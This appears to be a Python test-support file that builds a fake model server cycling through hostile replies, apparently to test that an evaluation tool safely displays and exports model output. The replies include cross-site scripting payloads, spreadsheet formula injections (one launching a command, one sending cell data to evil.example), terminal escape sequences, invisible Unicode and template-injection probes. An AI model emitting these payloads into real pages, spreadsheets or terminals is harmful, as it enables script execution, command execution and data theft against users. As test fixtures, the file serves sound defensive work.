"""Replies of a model that wants to be more than text, and a model server that gives them."""

from itertools import cycle

from tests.support.fake_openai import FakeOpenAI

MARK = "[simulated reply, severity 5 of 5]"
"""The simulated judge finds a reply with this severely harmful."""
LONG = "".join(f"line {number} <b>of many</b> & more\n" for number in range(7_000))
REPLIES = (
    "<script>window.pwned = 1; alert(1)</script>",
    "</div></details></main><img src=x onerror=\"window.pwned = 2\"><svg onload='window.pwned = 3'>",
    "left \u202eRIGHT-TO-LEFT\u202c \u200bzero\u2060width \u2066isolate\u2069 \ufeffmark \U000e0041tag",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3; =1+1",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\x08\x7f",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> #{7*7} {{ request }}",
    "[click](javascript:window.pwned=4) ![x](http://evil.example/x.png) **bold** `code` | a | b |",
    'quotes " and "" and \', commas, and\r\nlines\n\n',
    LONG,
)


def hostile_model() -> FakeOpenAI:
    """Gives the replies one after the other, each harmful to the simulated judge."""
    replies = cycle(REPLIES)
    model = FakeOpenAI()
    model.reply = lambda _body: f"{next(replies)}{MARK}"
    return model
